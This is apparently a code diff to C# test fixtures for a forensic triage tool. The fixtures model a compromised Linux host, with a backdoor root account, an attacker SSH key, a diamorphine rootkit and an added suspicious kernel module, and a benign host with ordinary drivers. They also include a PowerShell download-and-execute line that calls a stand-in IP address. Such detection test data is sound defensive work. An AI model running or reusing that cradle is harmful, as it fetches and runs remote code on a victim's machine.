@@ -44,7 +44,7 @@ internal static class TriageScenarios
         .Add("files/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nu:x:1000:1000::/home/u:/bin/bash\n")
         .Add("files/root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali\n", Collected.AddDays(-1))
         .Add("files/var/log/auth.log", AuthLog("203.0.113.9", 12, success: true) + AuthLog("198.51.100.20", 25, success: false))
-        .Add("files/proc/modules", "diamorphine 16384 0 - Live 0xffffffffc0a00000 (OE)\next4 737280 1 - Live 0xffffffffc0100000\n")
+        .Add("files/proc/modules", "diamorphine 16384 0 - Live 0xffffffffc0a00000 (OE)\next4 737280 1 - Live 0xffffffffc0100000\nnetfilter_hook 20480 0 - Live 0xffffffffc0b00000 (OE)\n")
         .Add("files/etc/hosts", "127.0.0.1 localhost\n")
         .TarGz();
 
@@ -82,7 +82,7 @@ internal static class TriageScenarios
         .Add("files/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI admin@laptop\n", Collected.AddDays(-300))
         .Add("files/var/log/auth.log", AuthLog("10.0.0.9", 3, success: true))
         .Add("files/etc/hosts", "127.0.0.1 localhost\n10.0.0.2 db.internal\n")
-        .Add("files/proc/modules", "ext4 737280 1 - Live 0xffffffffc0100000\n")
+        .Add("files/proc/modules", "ext4 737280 1 - Live 0xffffffffc0100000\nvboxdrv 696320 2 vboxnetadp,vboxnetflt, Live 0xffffffffc0c00000 (OE)\nnvidia 56799232 1 nvidia_modeset, Live 0xffffffffc1000000 (POE)\n")
         .TarGz();
 
     public static string EncodedDownload { get; } = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a.ps1')";
